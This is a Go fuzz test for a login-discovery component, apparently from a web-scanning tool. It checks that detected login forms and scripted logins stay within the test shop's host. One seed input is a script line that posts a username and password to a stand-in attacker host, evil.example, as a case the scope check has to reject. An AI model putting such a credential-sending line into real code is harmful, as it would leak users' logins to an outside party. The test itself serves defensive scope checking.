package signin

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"miseban/internal/page"
	"miseban/internal/wire"
)

// FuzzRead: whatever a shop sends in its pages, scripts and answers, reading
// them for a way in neither panics nor finds one outside the scope.
func FuzzRead(f *testing.F) {
	f.Add(`<form method=post action=/login><input name=mail><input type=password name=p></form>`, `fetch("/api/login",{method:"POST",body:JSON.stringify({email:a,password:b,n:1})})`, `{"data":{"token":"0123456789abcdef0123"}}`)
	f.Add(`<a href=/logout>x</a>`, `axios.post('//evil.example/login', {user, pass: "x"})`, `[]`)
	own := func(u *url.URL) bool { return u.Host == "shop.test" }
	f.Fuzz(func(t *testing.T, body, script, answer string) {
		u := &url.URL{Scheme: "https", Host: "shop.test", Path: "/login"}
		pg := page.Parse(&wire.Exchange{Method: "GET", URL: u, RawURL: u.String(), Status: 200, Header: http.Header{"Content-Type": {"text/html; charset=utf-8"}}, Body: []byte(body)})
		for _, form := range []*page.Form{loginForm(pg), firstStep(pg)} {
			if form != nil && form.Action != nil {
				_ = obstacle(form)
				request(form, filled(form, "user", "secret-0000", nil))
			}
		}
		if c := scriptedLogin(pg, []string{script}, own); c != nil {
			if !own(c.to) || c.user == "" || c.password == "" {
				t.Errorf("%+v", c)
			}
			if r := c.request(pg, nil, "user", "secret-0000"); !strings.Contains(string(r.Body), "secret-0000") {
				t.Errorf("%s", r.Body)
			}
		}
		_ = WayOut(pg)
		_ = bearerIn([]byte(answer))
	})
}
